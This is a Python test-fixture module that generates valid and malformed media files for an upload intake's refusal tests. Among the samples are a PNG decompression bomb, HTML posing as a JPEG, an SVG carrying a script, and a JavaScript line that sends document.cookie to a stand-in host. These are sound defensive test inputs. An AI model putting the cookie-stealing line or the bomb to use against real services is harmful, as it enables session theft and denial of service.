"""Real files for the intake tests, built here: valid ones of each accepted kind, and the
malformed ones every refusal is tested with."""

from __future__ import annotations

import io
import random
import struct
import zlib
from fractions import Fraction
from pathlib import Path

from PIL import Image, ImageDraw


def png(width: int = 64, height: int = 48, colour=(40, 90, 140)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, format="PNG")
    return out.getvalue()


def pattern_image(seed: int = 0, size=(320, 240)) -> Image.Image:
    """A picture with structure (so perceptual hashes of different seeds differ)."""
    image = Image.new("RGB", size, "white")
    pixels = image.load()
    for x in range(size[0]):
        for y in range(size[1]):
            value = ((x * (seed + 3)) ^ (y * (seed + 7))) % 256
            pixels[x, y] = (value, (value * 3 + seed * 40) % 256, (255 - value))
    return image


def scene(seed: int = 0, size=(640, 480)) -> Image.Image:
    """A picture with large shapes, as photos have: what perceptual hashes look at."""
    rng = random.Random(seed)
    image = Image.new("RGB", size)
    draw = ImageDraw.Draw(image)
    for x in range(size[0]):  # a sideways gradient as the background
        shade = int(255 * x / size[0])
        draw.line([(x, 0), (x, size[1])], fill=(shade, 120, 255 - shade))
    for _ in range(6):
        x0, y0 = rng.randrange(size[0] - 100), rng.randrange(size[1] - 100)
        box = (x0, y0, x0 + rng.randrange(60, 260), y0 + rng.randrange(60, 200))
        colour = tuple(rng.randrange(256) for _ in range(3))
        (draw.ellipse if rng.random() < 0.5 else draw.rectangle)(box, fill=colour)
    return image


def encode(image: Image.Image, fmt: str = "PNG", **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def jpeg_with_exif(
    *,
    latitude: tuple[float, float, float] = (47, 14, 8.52),
    longitude: tuple[float, float, float] = (39, 42, 5.4),
    taken: str = "2014:06:11 09:30:15",
    make: str = "TestCam",
    model: str = "Model 7",
) -> bytes:
    """A JPEG whose EXIF holds a camera, an original date-time and a GPS position (N, E)."""
    exif = Image.Exif()
    exif[0x010F] = make
    exif[0x0110] = model
    exif.get_ifd(0x8769)[0x9003] = taken
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", tuple(Fraction(v).limit_denominator(1000) for v in latitude)
    gps[3], gps[4] = "E", tuple(Fraction(v).limit_denominator(1000) for v in longitude)
    return encode(pattern_image(1), "JPEG", exif=exif)


def png_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A tiny PNG whose header claims billions of pixels: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    # A few rows of zeros, highly compressible; the rest would inflate to gigabytes.
    body = zlib.compress(b"\x00" * (width * 3 + 1) * 4, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = encode(pattern_image(2, (640, 480)), "JPEG", quality=95)
    return data[: len(data) // 2]


HTML_AS_JPEG = b"<!DOCTYPE html><html><body><script>fetch('/x')</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.domain)</script></svg>"
)
JAVASCRIPT = b"var stolen = document.cookie; fetch('https://example.invalid/?c=' + stolen);"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def pdf() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (100, 100), "white").save(out, format="PDF")
    return out.getvalue()


def video(path: Path, *, seconds: float = 2.0, fmt: str = "mp4", codec: str = "mpeg4") -> bytes:
    """A short clip made with PyAV: a moving gradient, 10 frames a second."""
    import av

    fps = 10
    with av.open(str(path), mode="w", format=fmt) as container:
        container.metadata["creation_time"] = "2014-06-11T09:30:00.000000Z"
        stream = container.add_stream(codec, rate=fps)
        stream.width, stream.height, stream.pix_fmt = 160, 120, "yuv420p"
        for index in range(int(seconds * fps)):
            frame = av.VideoFrame.from_image(pattern_image(index % 5, (160, 120)))
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return path.read_bytes()


def wav(seconds: float = 1.0) -> bytes:
    import wave

    out = io.BytesIO()
    with wave.open(out, "wb") as recording:
        recording.setnchannels(1)
        recording.setsampwidth(2)
        recording.setframerate(8000)
        recording.writeframes(b"\x00\x10" * int(8000 * seconds))
    return out.getvalue()
